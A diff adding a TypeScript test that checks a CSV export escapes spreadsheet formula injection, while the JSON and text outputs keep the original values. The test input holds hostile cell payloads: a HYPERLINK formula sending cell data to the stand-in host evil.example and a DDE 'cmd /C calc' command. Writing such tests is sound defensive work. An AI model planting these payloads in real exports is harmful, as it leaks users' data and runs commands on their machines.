@@ -42,6 +42,34 @@ describe('metadata.csv', () => {
     expect(value(second, 'id')).toBe(plain.id);
   });
 
+  it('neutralises cells a spreadsheet would run as formulas; articles.jsonl and texts/ keep the exact values', async () => {
+    const hostile = makeCaptureRecord({
+      title: '=HYPERLINK("http://evil.example/?d="&A1,"点击")',
+      source: '+cmd|\' /C calc\'!A0',
+      author: '-2+3',
+      column: '@SUM(1+1)',
+      note: '\t=1',
+      keywords: ['=1+1', '正常'],
+      editor: '李四',
+    });
+    const sink = memorySink();
+    await writeBundle([hostile], sink, { format: 'zip' });
+    const files = unpack(sink.bytes());
+    const [header, row] = parseCsv(textOf(files, 'metadata.csv').slice(1));
+    const value = (name: string) => row[header.indexOf(name)];
+    expect(value('title')).toBe(`'${hostile.title}`);
+    expect(value('source')).toBe(`'${hostile.source}`);
+    expect(value('author')).toBe("'-2+3");
+    expect(value('column')).toBe("'@SUM(1+1)");
+    expect(value('note')).toBe("'\t=1");
+    expect(value('keywords')).toBe("'=1+1;正常");
+    expect(value('editor')).toBe('李四');
+    expect(value('published_at')).toBe(hostile.published_at);
+    expect(JSON.parse(textOf(files, 'articles.jsonl')).title).toBe(hostile.title);
+    const textFile = [...files.keys()].find((name) => name.startsWith('texts/'))!;
+    expect(textOf(files, textFile).split('\n')[0]).toBe(hostile.title);
+  });
+
   it('has every field but the texts, and times in the Table Schema datetime form', async () => {
     const record = makeCaptureRecord({ captured_at: '2024-11-21T03:04:05.678Z', extracted: { author: null } });
     const [header, row] = parseCsv((await metadataOf([record])).slice(1));
